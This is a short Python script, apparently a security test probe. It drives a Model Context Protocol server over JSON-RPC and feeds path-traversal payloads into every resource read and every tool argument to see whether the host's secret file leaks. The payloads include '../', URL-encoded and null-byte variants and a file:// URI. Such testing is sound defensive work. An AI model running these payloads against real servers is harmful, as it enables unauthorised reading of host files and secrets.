"""Asks a server for the host's secrets in every string argument of every tool, and by every resource."""
import json, subprocess, sys

p = subprocess.Popen(sys.argv[1:], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
serial = 0


def ask(method, params):
    global serial
    serial += 1
    p.stdin.write((json.dumps({"jsonrpc": "2.0", "id": serial, "method": method, "params": params}) + "\n").encode())
    p.stdin.flush()
    for line in p.stdout:
        print(line.decode("utf-8", "replace"), end="")
        m = json.loads(line)
        if m.get("id") == serial:
            return m.get("result", {})
    sys.exit(0)


ask("initialize", {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "plain", "version": "1"}})
tools = ask("tools/list", {}).get("tools", [])
ask("resources/list", {})
wanted = ["@HOST@/secret.txt", "../../host/secret.txt", "../host/secret.txt", "b.jsonl", "b", "dir/secret.txt", "dir", "dir/report.json", "..%2f..%2fhost%2fsecret.txt", "file://@HOST@/secret.txt", "./../../host/secret.txt\u0000.jsonl"]
for w in wanted:
    ask("resources/read", {"uri": w})
    for t in tools:
        fields = t.get("inputSchema", {}).get("properties", {})
        for f in fields:
            ask("tools/call", {"name": t["name"], "arguments": {f: w}})
        ask("tools/call", {"name": t["name"], "arguments": dict.fromkeys(fields, w)})
p.stdin.close()
p.wait(20)
